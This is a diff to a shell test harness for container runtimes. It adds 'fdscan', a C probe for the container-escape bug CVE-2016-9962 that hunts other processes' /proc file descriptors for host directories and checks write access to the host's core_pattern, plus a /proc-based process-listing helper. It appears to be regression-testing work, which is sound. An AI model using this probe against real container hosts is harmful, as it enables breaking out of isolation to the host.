@@ -59,8 +59,9 @@ esc_build_tools() {
     esc_src_probe >"$ESC_TOOLS/probe.c"
     esc_src_swap >"$ESC_TOOLS/swap.c"
     esc_src_consrecv >"$ESC_TOOLS/consrecv.c"
+    esc_src_fdscan >"$ESC_TOOLS/fdscan.c"
     local t
-    for t in attack probe swap consrecv; do
+    for t in attack probe swap consrecv fdscan; do
         esc_cc "$ESC_TOOLS/$t" "$ESC_TOOLS/$t.c" || { echo "cannot compile $t.c" >&2; return 1; }
     done
 }
@@ -169,14 +170,24 @@ esc_exec_bounded() {
         kill -0 "$pid" 2>/dev/null || { wait "$pid" 2>/dev/null; return 0; }
         sleep 0.1
     done
-    echo "# cr exec $* (pid $pid) did not return in 20s:" >&2
-    ps -o pid,ppid,stat,wchan:24,args -p "$pid" >&2
-    echo "# its children:" >&2
-    ps -o pid,ppid,stat,wchan:24,args --ppid "$pid" >&2 || true
+    echo "# cr exec $* (pid $pid) did not return in 20s: $(esc_proc_line "$pid")" >&2
+    local p
+    for p in /proc/[0-9]*; do
+        [[ $(awk '/^PPid:/ { print $2 }' "$p/status" 2>/dev/null) == "$pid" ]] && echo "#   child: $(esc_proc_line "${p#/proc/}")" >&2
+    done
     ls -l "/proc/$pid/fd" >&2
     kill -9 "$pid" 2>/dev/null
     wait "$pid" 2>/dev/null
     return 1
+}
+
+# esc_proc_line PID: "pid state wchan cmdline" from /proc (no ps: out/bin,
+# first in PATH, has a `ps` applet).
+esc_proc_line() {
+    local st cmd
+    st=$(awk '/^State:/ { print $2 }' "/proc/$1/status" 2>/dev/null)
+    cmd=$(tr '\0' ' ' <"/proc/$1/cmdline" 2>/dev/null)
+    printf '%s %s %s %s\n' "$1" "$st" "$(cat "/proc/$1/wchan" 2>/dev/null)" "$cmd"
 }
 
 # esc_start_sleeping ID: create + start ($BUNDLE's args should block).
@@ -325,6 +336,93 @@ int main(int argc, char **argv) {
         for (i = 0; i < nheld; i++) try_write(i);
     }
     printf("DONE held=%d\n", nheld);
+    return 0;
+}
+EOF
+}
+
+# fdscan SECONDS MARKER: CVE-2016-9962. For SECONDS (or until
+# /tmp/stop-attack exists), look through /proc/PID/fd/N of every other
+# process for a directory that leads out of the container: the host's /proc
+# (its sys/kernel/core_pattern opens for writing; nothing is written) or a
+# host directory from which MARKER (an absolute host path) is reached by
+# going up. Prints GOT once per pid/fd that is a directory, and HOST-PROC or
+# ESCAPED lines for successes.
+esc_src_fdscan() {
+    cat <<'EOF'
+#define _GNU_SOURCE
+#include <dirent.h>
+#include <fcntl.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/stat.h>
+#include <time.h>
+#include <unistd.h>
+static char seen[4096][40];
+static int nseen, hits;
+static const char *marker;
+static int once(const char *key) {
+    int i;
+    for (i = 0; i < nseen; i++) if (!strcmp(seen[i], key)) return 0;
+    if (nseen < 4096) snprintf(seen[nseen++], sizeof seen[0], "%s", key);
+    return 1;
+}
+/* p: /proc/PID/fd/N, /proc/PID/cwd or /proc/PID/root */
+static void check(const char *p) {
+    char link[256], rel[512];
+    struct stat st;
+    int fd = open(p, O_PATH | O_CLOEXEC), w, k;
+    ssize_t l;
+    if (fd < 0) return;
+    if (fstat(fd, &st) < 0 || !S_ISDIR(st.st_mode)) { close(fd); return; }
+    l = readlink(p, link, sizeof link - 1);
+    link[l > 0 ? l : 0] = 0;
+    if (once(p)) printf("GOT %s -> %s\n", p, link);
+    w = openat(fd, "sys/kernel/core_pattern", O_WRONLY | O_CLOEXEC);
+    if (w >= 0) { printf("HOST-PROC %s -> %s: host core_pattern open for writing\n", p, link); close(w); hits++; }
+    rel[0] = 0;
+    for (k = 0; k < 16; k++) {
+        char path[600];
+        snprintf(path, sizeof path, "%s%s", rel, marker);
+        if (fstatat(fd, path, &st, 0) == 0) { printf("ESCAPED %s -> %s: reached %s\n", p, link, path); hits++; break; }
+        strcat(rel, "../");
+    }
+    close(fd);
+}
+int main(int argc, char **argv) {
+    int secs = argc > 1 ? atoi(argv[1]) : 10, self = getpid();
+    time_t end = time(NULL) + secs;
+    marker = argc > 2 ? argv[2] : "nonexistent";
+    setvbuf(stdout, NULL, _IOLBF, 0);
+    while (*marker == '/') marker++;
+    printf("SCANNING for %ds\n", secs);
+    while (time(NULL) < end && access("/tmp/stop-attack", F_OK) != 0 && hits <= 20) {
+        DIR *d = opendir("/proc");
+        struct dirent *e;
+        if (!d) return 1;
+        while ((e = readdir(d))) {
+            int pid = atoi(e->d_name);
+            char p[64];
+            DIR *fds;
+            struct dirent *f;
+            if (pid <= 0 || pid == self) continue;
+            snprintf(p, sizeof p, "/proc/%d/cwd", pid);
+            check(p);
+            snprintf(p, sizeof p, "/proc/%d/root", pid);
+            check(p);
+            snprintf(p, sizeof p, "/proc/%d/fd", pid);
+            if (!(fds = opendir(p))) continue;
+            while ((f = readdir(fds))) {
+                if (f->d_name[0] == '.') continue;
+                snprintf(p, sizeof p, "/proc/%d/fd/%s", pid, f->d_name);
+                check(p);
+            }
+            closedir(fds);
+        }
+        closedir(d);
+    }
+    printf("DONE hits=%d\n", hits);
     return 0;
 }
 EOF
